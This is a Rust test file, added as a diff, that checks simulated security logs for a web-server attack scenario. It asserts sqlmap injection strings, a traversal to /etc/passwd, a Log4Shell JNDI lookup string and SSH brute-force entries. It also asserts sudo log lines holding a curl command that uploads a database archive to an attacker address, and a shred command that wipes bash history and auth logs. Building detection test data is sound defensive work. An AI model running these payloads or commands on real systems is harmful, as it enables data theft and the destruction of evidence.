@@ -1,0 +1,198 @@
+//! The actions against the public web server and the Linux host: scans, injection,
+//! traversal, Log4Shell, SSH guessing and the intruder's sudo commands.
+
+use std::collections::BTreeSet;
+
+use super::{WEB, play_all, s, scenario};
+use crate::emit::Stream;
+
+#[test]
+fn web_reconnaissance() {
+    let p = play_all(&scenario(WEB), 7);
+    let conns = p.json("portscan", Stream::ZeekConn);
+    let ports: BTreeSet<u64> = conns
+        .iter()
+        .filter(|v| v["id.orig_h"] == "203.0.113.150" && v["proto"] == "tcp")
+        .filter_map(|v| v["id.resp_p"].as_u64())
+        .collect();
+    assert!(ports.len() >= 900, "{}", ports.len());
+    assert!(conns.iter().filter(|v| v["conn_state"] == "S0").count() >= 900);
+    let denies = p
+        .lines("portscan", Stream::Firewall)
+        .iter()
+        .filter(|l| l.contains("act=deny"))
+        .count();
+    assert!(denies >= 900, "{denies}");
+    let first = p.of("portscan", Stream::ZeekConn).first().unwrap().time;
+    let last = p.of("portscan", Stream::ZeekConn).last().unwrap().time;
+    assert!(last - first < 15 * 60 * 1_000_000_000 && last - first > 60 * 1_000_000_000);
+    assert!(
+        p.json("portscan", Stream::Suricata)
+            .iter()
+            .any(|v| s(&v["alert"], "signature").starts_with("ET SCAN"))
+    );
+    assert!(
+        p.lines("portscan", Stream::WebAccess)
+            .iter()
+            .any(|l| l.contains("Nmap Scripting Engine"))
+    );
+
+    let access = p.lines("webscan", Stream::WebAccess);
+    assert!(access.len() >= 300);
+    assert!(
+        access
+            .iter()
+            .all(|l| l.starts_with("203.0.113.150 ") && l.contains("Nikto/2.1.6"))
+    );
+    for probe in [
+        "/.git/config",
+        "/wp-admin/",
+        "/phpmyadmin/",
+        "/.env",
+        "/cgi-bin/test.cgi",
+    ] {
+        assert!(
+            access
+                .iter()
+                .any(|l| l.contains(&format!("GET {probe} HTTP/1.1\" 404"))),
+            "{probe}"
+        );
+    }
+    let times: Vec<i64> = p
+        .of("webscan", Stream::WebAccess)
+        .iter()
+        .map(|r| r.time)
+        .collect();
+    let span = times.iter().max().unwrap() - times.iter().min().unwrap();
+    assert!(span < 10 * 60 * 1_000_000_000, "{span}");
+    assert!(p.json("webscan", Stream::ZeekHttp).len() == access.len());
+    assert!(
+        p.json("webscan", Stream::Suricata)
+            .iter()
+            .any(|v| v["alert"]["signature"] == "ET SCAN Nikto Web App Scan in Progress")
+    );
+}
+
+#[test]
+fn web_exploitation() {
+    let p = play_all(&scenario(WEB), 8);
+    let access = p.lines("sqli", Stream::WebAccess);
+    assert!(access.iter().all(|l| l.contains("GET /product.php?id=")));
+    assert!(access.iter().any(|l| l.contains("%27 HTTP/1.1\" 500")));
+    assert!(access.iter().any(|l| l.contains("ORDER%20BY%205--%20-")));
+    let dump: Vec<_> = access
+        .iter()
+        .filter(|l| l.contains("UNION%20ALL%20SELECT") && l.contains("FROM%20shop.customers"))
+        .collect();
+    assert!(!dump.is_empty());
+    assert!(
+        dump.iter()
+            .any(|l| l.contains("email") && l.contains("password_hash") && l.contains("\" 200 "))
+    );
+    let big = access
+        .iter()
+        .filter_map(|l| {
+            l.split("\" 200 ")
+                .nth(1)?
+                .split(' ')
+                .next()?
+                .parse::<u64>()
+                .ok()
+        })
+        .max()
+        .unwrap();
+    assert!(big > 400_000, "{big}");
+    assert!(access.iter().all(|l| l.contains("sqlmap/1.7.2#stable")));
+    assert!(
+        p.json("sqli", Stream::Suricata).iter().any(
+            |v| s(&v["alert"], "signature").starts_with("ET WEB_SERVER Possible SQL Injection")
+        )
+    );
+    assert_eq!(p.json("sqli", Stream::ZeekHttp).len(), access.len());
+
+    let access = p.lines("traversal", Stream::WebAccess);
+    assert!(
+        access
+            .iter()
+            .any(|l| l.contains("GET /download.php?file=../../../../etc/passwd HTTP/1.1\" 200"))
+    );
+    assert!(access.iter().any(|l| l.contains("..%252f")));
+
+    let access = p.lines("jndi", Stream::WebAccess);
+    assert!(
+        access
+            .iter()
+            .any(|l| l.ends_with("\"${jndi:ldap://203.0.113.150:1389/a}\""))
+    );
+    assert!(
+        access
+            .iter()
+            .any(|l| l.contains("%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.150%3A1389"))
+    );
+    let ldap: Vec<_> = p
+        .json("jndi", Stream::ZeekConn)
+        .into_iter()
+        .filter(|v| v["id.orig_h"] == "192.168.60.10" && v["id.resp_p"] == 1389)
+        .collect();
+    assert!(!ldap.is_empty());
+    assert!(
+        p.lines("jndi", Stream::Firewall)
+            .iter()
+            .any(|l| l.contains("src=192.168.60.10")
+                && l.contains("dpt=1389")
+                && l.contains("act=deny"))
+    );
+}
+
+#[test]
+fn ssh_brute_force_then_the_intruders_commands() {
+    let p = play_all(&scenario(WEB), 9);
+    let auth = p.lines("bruteforce", Stream::LinuxAuth);
+    let failed = auth
+        .iter()
+        .filter(|l| {
+            l.contains("sshd[")
+                && l.contains("Failed password for webadmin from 203.0.113.150 port ")
+        })
+        .count();
+    assert_eq!(failed, 60);
+    assert!(
+        auth.iter()
+            .any(|l| l.contains("Accepted password for webadmin from 203.0.113.150"))
+    );
+    assert!(
+        auth.iter()
+            .any(|l| l.contains("pam_unix(sshd:session): session opened for user webadmin"))
+    );
+    let times: Vec<i64> = p
+        .of("bruteforce", Stream::LinuxAuth)
+        .iter()
+        .map(|r| r.time)
+        .collect();
+    let span = times.iter().max().unwrap() - times.iter().min().unwrap();
+    assert!(
+        span < 15 * 60 * 1_000_000_000 && span > 60 * 1_000_000_000,
+        "{span}"
+    );
+    let ssh = p
+        .json("bruteforce", Stream::ZeekConn)
+        .into_iter()
+        .filter(|v| v["id.resp_p"] == 22)
+        .count();
+    assert!(ssh >= 20);
+    assert!(p.lines("collect", Stream::LinuxAuth).iter().any(|l| l.ends_with(
+        "sudo: webadmin : TTY=pts/0 ; PWD=/home/webadmin ; USER=root ; COMMAND=/usr/bin/tar czf /tmp/.cache/db.tgz /var/backups/shop"
+    )));
+    assert!(p.lines("exfil", Stream::LinuxAuth).iter().any(|l| l.contains(
+        "COMMAND=/usr/bin/curl -sk -X POST --data-binary @/tmp/.cache/db.tgz https://203.0.113.150/upload"
+    )));
+    let up = p
+        .json("exfil", Stream::ZeekConn)
+        .into_iter()
+        .find(|v| v["id.resp_h"] == "203.0.113.150" && v["id.resp_p"] == 443)
+        .unwrap();
+    assert!(up["orig_bytes"].as_u64().unwrap() >= 420_000_000);
+    assert!(p.lines("cleanup", Stream::LinuxAuth).iter().any(|l| l.contains(
+        "COMMAND=/usr/bin/shred -u -z /tmp/.cache/db.tgz /home/webadmin/.bash_history /var/log/auth.log.1"
+    )));
+}
